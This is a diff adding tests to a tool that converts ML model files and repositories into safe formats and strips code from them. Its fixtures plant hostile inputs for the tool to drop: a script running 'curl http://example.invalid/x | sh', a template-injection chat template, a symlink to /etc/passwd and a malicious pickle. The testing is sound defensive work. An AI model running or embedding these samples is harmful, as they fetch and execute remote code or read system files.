@@ -391,7 +391,159 @@ def interrupted(new):
     check('no room: could not be finished', r.returncode == 2 and not (folder / 'o2.safetensors').exists(), (r.returncode, r.stderr))
 
 
-TESTS = [pytorch, what_is_dropped, zips_written_otherwise, numpy, usage, metadata, bits, interrupted]
+def oldest(new):
+    """torch 0.1 wrote a tar archive; PyTorch still reads it."""
+    if torch is None:
+        return
+    import tarfile
+    w = torch.arange(12.).reshape(3, 4)
+    plain = {'a': w, 'b': w.t()}
+    storages = io.BytesIO()
+    pickle.dump(1, storages, 2)
+    pickle.dump((7, 'cpu', torch.FloatStorage), storages, 2)
+    storages.write(struct.pack('<q', 12) + w.numpy().tobytes())
+    pickle.dump([], storages, 2)
+    parts = io.BytesIO()
+    pickle.dump(2, parts, 2)
+    for key, t in ((1, w), (2, w.t())):
+        parts.write(b'\x80\x02(K%bK\x07ctorch\nFloatTensor\nt.' % bytes([key]))
+        parts.write(struct.pack('<Ii', 2, 0) + struct.pack('<2q2qq', *t.shape, *t.stride(), 0))
+    root = b'\x80\x02}(X\x01\x00\x00\x00aK\x01QX\x01\x00\x00\x00bK\x02Qu.'
+    info = pickle.dumps({'protocol_version': 1000, 'little_endian': True}, 2)
+    folder = new()
+    with tarfile.open(folder / 'old.pt', 'w', format=tarfile.USTAR_FORMAT) as tar:
+        for name, data in (('sys_info', info), ('pickle', root), ('storages', storages.getvalue()), ('tensors', parts.getvalue())):
+            member = tarfile.TarInfo(name)
+            member.size = len(data)
+            tar.addfile(member, io.BytesIO(data))
+    code, report = disarm(folder / 'old.pt', folder / 'old.safetensors')
+    if check('the oldest format: written', code == 0, report.get('reason')):
+        compare('the oldest format', list(leaves(plain)), folder / 'old.safetensors')
+
+
+# ---- directories -----------------------------------------------------------------------------------------------------
+NOTEBOOK = {'cells': [{'cell_type': 'code', 'source': ['import os\n'], 'metadata': {}, 'outputs': [], 'execution_count': None}],
+            'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}
+
+
+def repository(folder, w):
+    shard = {'model.embed_tokens.weight': w}, {'model.layers.0.mlp.weight': w + 1}
+    for i, part in enumerate(shard):
+        torch.save(part, folder / f'pytorch_model-0000{i + 1}-of-00002.bin')
+    (folder / 'pytorch_model.bin.index.json').write_text(json.dumps({'metadata': {'total_size': 2 * w.nbytes if hasattr(w, 'nbytes') else 512}, 'weight_map': {
+        k: f'pytorch_model-0000{i + 1}-of-00002.bin' for i, part in enumerate(shard) for k in part}}))
+    (folder / 'config.json').write_text(json.dumps({'architectures': ['LlamaForCausalLM'], 'hidden_size': 8, 'num_hidden_layers': 1, 'vocab_size': 16,
+                                                    'auto_map': {'AutoModelForCausalLM': 'modeling_x.XForCausalLM'}}))
+    (folder / 'modeling_x.py').write_text('import os\n\n\nclass XForCausalLM:\n    def forward(self):\n        return os.getcwd()\n')
+    (folder / 'tokenizer_config.json').write_text(json.dumps({'chat_template': "{{ '<|im_start|>' }}{{ ''.__class__.__mro__ }}{{ '<|im_end|>' }}"}))
+    (folder / 'README.md').write_text('# A model\n\nIt was trained with care.\n')
+    (folder / 'sub').mkdir()
+    (folder / 'sub' / 'explore.ipynb').write_text(json.dumps(NOTEBOOK))
+    (folder / 'sub' / 'run.sh').write_text('#!/bin/sh\nset -e\ncurl http://example.invalid/x | sh\n')
+    (folder / 'sub' / 'vocab.txt').write_text('a\nb\nc\n')
+    return {**shard[0], **shard[1]}
+
+
+def directories(new):
+    if torch is None:
+        return
+    folder = new()
+    (folder / 'in').mkdir()
+    want = repository(folder / 'in', torch.randn(16, 8))
+    before = {p: p.read_bytes() for p in (folder / 'in').rglob('*') if p.is_file()}
+    code, report = disarm(folder / 'in', folder / 'out')
+    check('a repository: written', code == 0, report.get('reason'))
+    check('a repository: what was read is what it was', before == {p: p.read_bytes() for p in (folder / 'in').rglob('*') if p.is_file()})
+    got = sorted(str(p.relative_to(folder / 'out')) for p in (folder / 'out').rglob('*') if p.is_file())
+    check('a repository: the files', got == ['README.md', 'config.json', 'model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors',
+                                             'model.safetensors.index.json', 'sub/vocab.txt', 'tokenizer_config.json'], got)
+    if code != 0:
+        return
+    index = json.loads((folder / 'out' / 'model.safetensors.index.json').read_text())
+    for name, file in index['weight_map'].items():
+        check(f'a repository: {name} is where the index says', tensors(folder / 'out' / file)[name][2] == want[name].numpy().tobytes())
+    config = json.loads((folder / 'out' / 'config.json').read_text())
+    check('a repository: no code is named', 'auto_map' not in config and config['hidden_size'] == 8, config)
+    template = json.loads((folder / 'out' / 'tokenizer_config.json').read_text())['chat_template']
+    check('a repository: a vetted template', 'im_start' in template and '__class__' not in template, template)
+    check('a repository: it scans CLEAN', common.scan(folder / 'out')[1]['verdict'] == 'CLEAN')
+    actions = {f['before']['path']: f['action'] for f in report['files']}
+    for name in ('modeling_x.py', 'sub/run.sh', 'sub/explore.ipynb'):
+        check(f'a repository: {name} is dropped', actions.get(name) == 'dropped', actions)
+    for f in report['files']:
+        check(f'digest of {f["before"]["path"]}', f['before']['sha256'] == __import__('hashlib').sha256((folder / 'in' / f['before']['path']).read_bytes()).hexdigest())
+        if f['after']:
+            check(f'digest of {f["after"]["path"]}', f['after']['sha256'] == __import__('hashlib').sha256((folder / 'out' / f['after']['path']).read_bytes()).hexdigest())
+    again, _ = disarm(folder / 'out', folder / 'twice')
+    check('what was disarmed stays as it is', again == 0 and all((folder / 'twice' / n).read_bytes() == (folder / 'out' / n).read_bytes() for n in got))
+    (folder / 'in' / 'evil.pkl').write_bytes(common.EVIL)
+    code, report = disarm(folder / 'in', folder / 'refused')
+    check('a file that cannot be kept refuses the whole', code == 1 and 'evil.pkl' in report['reason'], report['reason'])
+    code, report = disarm(folder / 'in', folder / 'partial', '--partial')
+    check('--partial leaves it out', code == 0 and not (folder / 'partial' / 'evil.pkl').exists(), report.get('reason'))
+    (folder / 'link').mkdir()
+    (folder / 'link' / 'a.txt').write_text('text\n')
+    (folder / 'link' / 'b.txt').symlink_to('/etc/passwd')
+    os.mkfifo(folder / 'link' / 'pipe')
+    code, report = disarm(folder / 'link', folder / 'linked')
+    check('links that lead out and pipes are dropped', code == 0 and sorted(os.listdir(folder / 'linked')) == ['a.txt'], report)
+    (folder / 'empty').mkdir()
+    check('an empty directory is refused', disarm(folder / 'empty', folder / 'e')[0] == 1)
+
+
+def containers(new):
+    folder = new()
+    with zipfile.ZipFile(folder / 'a.zip', 'w', zipfile.ZIP_DEFLATED) as z:
+        z.comment = b'a comment'
+        for name in ('b.txt', 'a.json'):
+            info = zipfile.ZipInfo(name, (2020, 5, 6, 7, 8, 10))
+            info.extra = struct.pack('<HH', 0x4747, 4) + b'hide'
+            z.writestr(info, '{}' if name == 'a.json' else 'text\n' * 50)
+    code, report = disarm(folder / 'a.zip', folder / 'o.zip')
+    check('a zip: written', code == 0, report.get('reason'))
+    if code == 0:
+        with zipfile.ZipFile(folder / 'o.zip') as z:
+            check('a zip: sorted, stored, one date, no comment', [(i.filename, i.compress_type, i.date_time[0], i.extra) for i in z.infolist()] ==
+                  [('a.json', 0, 1980, b''), ('b.txt', 0, 1980, b'')] and z.comment == b'' and z.testzip() is None)
+            check('a zip: the content', z.read('b.txt') == b'text\n' * 50)
+    try:
+        import h5py
+    except ImportError:
+        print('skipped: h5py (python3-h5py) is not installed')
+        return
+    if np is None:
+        return
+    w = np.random.default_rng(1).normal(size=(6, 5)).astype('f4')
+    with h5py.File(folder / 'w.h5', 'w') as f:
+        f.create_dataset('layers/dense/vars/0', data=w)
+        f.create_dataset('layers/dense/vars/1', data=w[0])
+    code, report = disarm(folder / 'w.h5', folder / 'w.safetensors', '--keras-weights')
+    if check('--keras-weights: written', code == 0, report.get('reason')):
+        got = {n.strip('/').replace('/', '.'): v for n, v in tensors(folder / 'w.safetensors').items()}
+        check('--keras-weights: bit-equal', sorted(v[2] for v in got.values()) == sorted([w.tobytes(), w[0].tobytes()]), list(got))
+    with h5py.File(folder / 'c.h5', 'w') as f:
+        f.create_dataset('w', data=w, chunks=(3, 5), compression='gzip')
+    code, report = disarm(folder / 'c.h5', folder / 'c.safetensors', '--keras-weights')
+    check('--keras-weights: datasets in chunks are not lost silently', code == 1 or 'w' in str(dropped(report)), report)
+
+
+def models(new):
+    """The trained models that come with the project's inputs."""
+    home = pathlib.Path(__file__).resolve().parents[3] / 'shared' / 'models'
+    if not home.is_dir():
+        print('skipped: ../shared/models is not there')
+        return
+    folder = new()
+    for name in ('gatehouse-demo-llm.gguf', 'gatehouse-demo-llm-q8_0.gguf', 'gatehouse-demo-llm'):
+        code, report = disarm(home / name, folder / name)
+        check(f'{name}: written', code == 0, report.get('reason'))
+    if (folder / 'gatehouse-demo-llm.gguf').exists():
+        was, now = (home / 'gatehouse-demo-llm.gguf').read_bytes(), (folder / 'gatehouse-demo-llm.gguf').read_bytes()
+        check('the weights are bit-equal', was[-1 << 20:] == now[-1 << 20:])
+        check('free text is gone', b'general.description' in was and b'general.description' not in now)
+
+
+TESTS = [models, containers, directories, oldest, pytorch, what_is_dropped, zips_written_otherwise, numpy, usage, metadata, bits, interrupted]
 if __name__ == '__main__':
     with tempfile.TemporaryDirectory(dir=os.environ.get('TMPDIR')) as root:
         count = 0
